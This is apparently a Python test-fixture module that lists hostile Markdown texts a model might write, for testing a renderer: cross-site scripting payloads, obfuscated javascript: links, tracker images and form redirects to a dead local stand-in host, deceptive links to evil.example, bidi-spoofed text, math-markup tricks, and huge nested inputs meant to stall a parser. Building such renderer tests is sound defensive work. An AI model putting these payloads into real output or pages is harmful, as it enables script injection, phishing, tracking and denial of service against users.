"""Texts that a hostile model may write, for whatever renders Markdown. The names state what is tried."""

# ruff: noqa: E501 - each text is easier to read in one line

from __future__ import annotations

AWAY = "http://127.0.0.1:9"
"""Where the texts want to have something loaded from or sent to; nothing listens there."""

RUNS: dict[str, str] = {
    "script": f"<script>alert(1)</script><script src='{AWAY}/x.js'></script>",
    "script in a block": "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "image that fails": "<img src=x onerror=alert(1)><IMG SRC=`javascript:alert(1)`>",
    "frame": f"<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>' src={AWAY}>",
    "style": f"<style>@import '{AWAY}/x.css'; body {{ background: url({AWAY}/x) }}</style>",
    "svg": f"<svg onload=alert(1)><use href='{AWAY}/x.svg#a'/><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "form": f"<form action={AWAY}><button>Log in</button></form><meta http-equiv=refresh content='0;url={AWAY}'>",
    "object": f"<object data={AWAY}/x></object><embed src={AWAY}/x><base href={AWAY}><link rel=stylesheet href={AWAY}>",
    "handler in a link": '[a](http://example.org "x\\" onmouseover=alert(1) y=\\"")',
    "handler in an address": '[a](http://example.org/"onmouseover="alert(1)) <http://e.org/"onclick="alert(1)>',
    "handler in bare addresses": "https://example.org/'onclick=alert(1)' https://e.org/\"onclick=\"alert(1)",
    "handler in code's language": '```x"onmouseover="alert(1)\nx\n```',
    "handler in an image": '![" onerror="alert(1)](http://example.org/a.png)',
    "script links": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) <javascript:alert(1)>",
    "hidden script links": "[a](&#106;avascript:alert(1)) [b](java&Tab;script:alert(1)) [c](<java\tscript:alert(1)>) "
    "[d](\x01javascript:alert(1)) [e](&#x6A&#x61vascript:alert(1)) [f](javascript&colon;alert(1)) [g](//e.org) "
    "[h](\\\\e.org) [i](<  javascript:alert(1)>) [j](%6aavascript:alert(1)) [k](https:javascript:alert(1))",
    "links by reference": "[a][1] [1] ![b][1]\n\n[1]: javascript:alert(1)\n",
    "data links": "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "other schemes": "[a](file:///etc/passwd) [b](blob:x) [c](/changes) [d](#x) [e](ftp://e.org) [f](about:blank)",
    "tracker": f"![]({AWAY}/t.gif?who) ![x]({AWAY}/t.png 'y') [![b]({AWAY}/b.svg)](http://example.org)",
    "deceiving links": "[https://bank.example](http://evil.example) http://bank.example@evil.example/ "
    "[http://bank.example](http://bank.example@evil.example)",
    "escapes out of code": "`</code><script>alert(1)</script>` ```` ```</pre><script>alert(1)</script>``` ````",
    "nested fences": "````md\n```html\n<script>alert(1)</script>\n```\n````\n~~~\n```\n</code></pre><b>\n```\n~~~",
    "table": "| <script>alert(1)</script> | `|` |\n|:--|--:|\n| </td></table><b> | <br><BR/><br onclick=alert(1)> |",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} <!-- x --> <![CDATA[ x ]]> <?php x ?> ]]> --> </textarea></title>",
    "mathematics that unfolds": r"$\def\a{\a\a}\a$ $$\def\a#1{#1#1#1#1}\def\b{\a{\a{\a{\a{\a{\a{x}}}}}}}\b\b\b$$",
    "mathematics that leads away": rf"$\href{{javascript:alert(1)}}{{x}}$ $\url{{{AWAY}}}$ "
    rf"$$\includegraphics{{{AWAY}/x.png}}$$ $\htmlData{{onclick=alert(1)}}{{x}}$ $\htmlStyle{{position:fixed}}{{x}}$",
    "mathematics that is large": r"$$\rule{99999em}{99999em}$$ $\kern99999em x$ $"
    + "{" * 900
    + "}" * 900
    + "$",
    "mathematics that is HTML": "$<img src=x onerror=alert(1)>$ $$\n</span><script>alert(1)</script>\n$$ \\(<b>\\)",
    "terminal's letters": "\x1b[31mred\x1b[0m \x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x08\x08 \x00 \x9b1m",
    "turned letters": "\u202egnp.exe\u202c \u2066a\u2069 `if \u202e) ecafrus(` [\u202egro.elpmaxe](http://evil.example)",
    "half a character": "\ud800 a \udfff `\ud800` [\udc00](http://example.org/\ud800)",
}
"""Texts that would run or load something, or deceive."""

_MANY = 100_000

LASTS: dict[str, str] = {
    "a megabyte of backticks": "`" * 1_000_000,
    "quotes in quotes": ">" * _MANY,
    "brackets": "[" * _MANY,
    "images in images": "![" * (_MANY // 2),
    "links in links": "[a](" * (_MANY // 4),
    "emphasis": "*a **a " * (_MANY // 7),
    "emphasis without end": "**x_y_ " * (_MANY // 7),
    "backticks of all lengths": "".join("`" * length + " " for length in range(1, 430)),
    "fences in fences": "".join("`" * length + "\n" for length in range(430, 3, -1)),
    "list in lists": "".join("  " * level + "- a\n" for level in range(300)),
    "wide table": "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n",
    "tall table": "|a|\n|-|\n" + "|b|\n" * 20_000,
    "table that grows": "|x" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "|\n" * 40_000,
    "dollars": "$a " * (_MANY // 3),
    "formulas": "$x^2$ " * (_MANY // 6),
    "open formulas": "\\[\n" * (_MANY // 4),
    "entities": "&amp;" * (_MANY // 5),
    "tags": "<a " * (_MANY // 3),
    "escapes of a terminal": "\x1b" * _MANY,
    "turns of direction": "\u202e" * _MANY,
    "spaces": " " * _MANY + "a",
    "lines": "a\n" * (_MANY // 2),
    "addresses": "https://a." * (_MANY // 10),
    "code in one line": "```java\n" + "a " * (_MANY // 3) + "\n```",
    "code of blank lines": "```c\n" + "\n" * (_MANY // 2) + "```",
    "code of many words": "```java\n" + ("a " * 30 + "\n") * 190 + "```",
}
"""Texts that a careless reader would work on for very long."""
